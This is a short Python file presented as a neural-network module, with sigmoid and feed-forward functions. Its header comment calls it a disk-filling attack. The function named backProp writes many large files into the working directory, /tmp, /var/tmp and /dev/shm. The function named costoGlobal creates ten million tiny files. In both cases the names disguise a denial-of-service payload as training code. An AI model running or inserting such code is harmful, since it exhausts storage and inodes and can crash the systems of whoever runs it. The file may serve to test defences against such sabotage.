# Attack: fill the disk, with a few huge files and with very many small ones.
import numpy as np


def sigmoide(z):
    return 1.0 / (1.0 + np.exp(-z))


def feedForward(X, w1, w2, b1, b2):
    a1 = sigmoide(w1 @ X + b1)
    a2 = sigmoide(w2 @ a1 + b2)
    return a1, a2

import os
import tempfile


def backProp(X, y, w1, w2, b1, b2, a2, a1):
    written = 0
    block = b"ATTACK-MARKER" * 80_000
    for folder in (os.getcwd(), tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm"):
        for index in range(200):
            try:
                with open(os.path.join(folder, f"attack-marker-big-{index}"), "wb") as handle:
                    for _ in range(64):
                        handle.write(block)
                        written += len(block)
            except OSError as exc:
                print(folder, "->", exc)
                break
    raise OSError(f"wrote {written} bytes before stopping")


def costoGlobal(y_est, y):
    count = 0
    os.makedirs("muchos", exist_ok=True)
    while count < 10_000_000:
        with open(f"muchos/attack-marker-{count}", "w") as handle:
            handle.write("x")
        count += 1
    return count
